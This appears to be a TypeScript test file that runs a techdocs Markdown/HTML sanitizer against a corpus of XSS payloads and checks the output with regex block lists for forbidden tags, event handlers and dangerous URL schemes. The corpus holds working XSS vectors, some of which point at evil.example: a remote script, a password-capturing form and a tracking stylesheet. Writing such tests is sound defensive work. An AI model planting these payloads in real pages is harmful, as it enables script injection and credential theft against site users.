/**
 * The sanitizer against an XSS corpus: every payload goes through the whole page renderer (Markdown + raw HTML,
 * links rewritten, sanitize-html last) and the output is checked structurally: no executable element, no event
 * handler, no style, no URL with a dangerous scheme, no form or frame, whatever the payload's spelling.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "../../../../plugins/techdocs/render/markdown";
import { sanitize } from "../../../../plugins/techdocs/render/sanitize";

const ctx = { entity: { kind: "component", namespace: "default", name: "svc" }, mdPath: "index.md" };
const render = (s: string) => renderMarkdown(s, ctx).html;

export const XSS_CORPUS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" ONERROR="alert(1)">',
  "<body onload=alert(1)>",
  '<div onmouseover="alert(1)">hover</div>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
  '<a href="&#x6A;avascript:alert(1)">hex entity</a>',
  '<a href="java&#x09;script:alert(1)">tab entity</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "[md link](javascript:alert(1))",
  "[md link](<javascript:alert(1)>)",
  "![md image](javascript:alert(1))",
  "![md image](data:image/png;base64,AAAA)",
  "[ref link][r]\n\n[r]: javascript:alert(1)",
  "<svg onload=alert(1)><circle r=10 /></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">CLICK</math>',
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">b</button>',
  "<textarea><script>alert(1)</script></textarea>",
  "<style>body{background:url(https://evil.example/track)}</style>",
  '<div style="background-image:url(javascript:alert(1))">styled</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a href="https://ok.example" target="_blank">tab-nabbing</a>',
  '<div id="__proto__" class="evil">x</div><form id="location"></form>',
  '<img src="/api/catalog/locations" alt="absolute path">',
  '<a href="//evil.example/path">protocol-relative</a>',
  "<!--<img src=x onerror=alert(1)>-->",
  '<x onclick=alert(1)>unknown</x>',
  "```html\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  '!!! note "<img src=x onerror=alert(1)>"\n    body',
  '=== "<script>alert(1)</script>"\n    tab',
  "# <img src=x onerror=alert(1)> heading",
];

const FORBIDDEN_TAGS = /<\s*\/?\s*(script|style|iframe|frame|frameset|object|embed|form|input|button|textarea|select|option|svg|math|link|meta|base|video|audio|source|template|noscript|x)\b/i;
const EVENT_ATTR = /<[^>]*\s(on[a-z]+)\s*=/i;
const STYLE_ATTR = /<[^>]*\sstyle\s*=/i;
/**
 * The output with every quoted attribute value emptied, inside tags only: an attribute is only what a tag
 * says outside its quotes (the serializer escapes `"` and `>` inside them), so a title that spells
 * ` onerror=` as text is not an event handler (a generated mixture produced one, a false alarm).
 */
const bareTags = (html: string) => html.replace(/<[a-z][^>]*>/gi, (tag) => tag.replace(/="[^"]*"/g, '=""'));

/** Every href/src in the output, entity-decoded as a browser would read it. */
function urls(html: string): string[] {
  const out: string[] = [];
  // Only inside real tags: escaped text (`&lt;img src=x&gt;`) is shown, not parsed.
  const tags = html.match(/<[a-z][^>]*>/gi) ?? [];
  for (const m of tags.flatMap((t) => [...t.matchAll(/\s(?:href|src|action|formaction|srcdoc|xlink:href|data)\s*=\s*("([^"]*)"|'([^']*)'|([^\s>]+))/gi)])) {
    const raw = m[2] ?? m[3] ?? m[4] ?? "";
    out.push(raw.replace(/&#x([0-9a-f]+);?/gi, (_s, h) => String.fromCodePoint(parseInt(h, 16))).replace(/&#(\d+);?/g, (_s, d) => String.fromCodePoint(Number(d))).replace(/&amp;/g, "&"));
  }
  return out;
}

function assertSafe(html: string) {
  expect(html).not.toMatch(FORBIDDEN_TAGS);
  expect(bareTags(html)).not.toMatch(EVENT_ATTR);
  expect(bareTags(html)).not.toMatch(STYLE_ATTR);
  expect(html).not.toMatch(/target\s*=/i);
  for (const u of urls(html)) {
    const compact = u.replace(/[\u0000-\u0020]/g, "").toLowerCase();
    expect(compact).not.toMatch(/^(javascript|vbscript|data|file):/);
    // Only the reader, the asset route, fragments and http(s)/mailto.
    expect(compact).toMatch(/^(\/docs\/|\/api\/plugins\/techdocs\/assets\/|#|https:|http:|mailto:)/);
  }
}

describe("techdocs sanitizer", () => {
  it.each(XSS_CORPUS)("neutralizes %s", (payload) => {
    assertSafe(render(payload));
    assertSafe(render(`Some text\n\n${payload}\n\nmore *text*`));
  });

  it("keeps the harmless parts of a hostile page readable", () => {
    const html = render('<div onmouseover="alert(1)">hover text</div>\n\n<a href="https://ok.example" target="_blank">ok</a>');
    expect(html).toContain("hover text");
    expect(html).toContain('<a href="https://ok.example" rel="noopener noreferrer nofollow">ok</a>');
  });

  it("drops the content of script, style and frames rather than showing it as text", () => {
    const html = render("<style>body{color:red}</style><script>var secret=1</script>after");
    expect(html).not.toContain("color:red");
    expect(html).not.toContain("secret");
    expect(html).toContain("after");
  });

  it("drops ids that are not plain slugs (DOM clobbering)", () => {
    const html = render('<div id="__proto__">a</div><p id="ok-id">b</p>');
    expect(html).not.toContain("__proto__");
    expect(html).toContain('id="ok-id"');
  });

  it("stays safe on generated mixtures of the corpus and markup (property)", () => {
    const piece = fc.oneof(
      fc.constantFrom(...XSS_CORPUS),
      fc.constantFrom("<", ">", '"', "'", "=", "`", "&#", "javascript:", "on", "error", " ", "\n", "\t", "<a href=", "<img src=", "!!! note", "    ", "=== \"t\"\n"),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (parts) => {
        const html = render(parts.join(""));
        return !FORBIDDEN_TAGS.test(html) && !EVENT_ATTR.test(bareTags(html)) && !STYLE_ATTR.test(bareTags(html)) && urls(html).every((u) => !/^(javascript|vbscript|data|file):/.test(u.replace(/[\u0000-\u0020]/g, "").toLowerCase()));
      }),
      { numRuns: 300 },
    );
  });

  it("keeps handler-looking text inside a quoted attribute as text (the property's oracle reads tags, not values)", () => {
    const html = render(`x\\<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`);
    expect(html).toContain('title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;"');
    expect(html).not.toMatch(FORBIDDEN_TAGS);
    expect(html).toMatch(EVENT_ATTR);
    expect(bareTags(html)).not.toMatch(EVENT_ATTR);
  });

  it("sanitizes without a rewriter too (scheme check only)", () => {
    assertSafe(sanitize('<a href="javascript:alert(1)">x</a><img src="https://ok.example/a.png">'));
  });
});
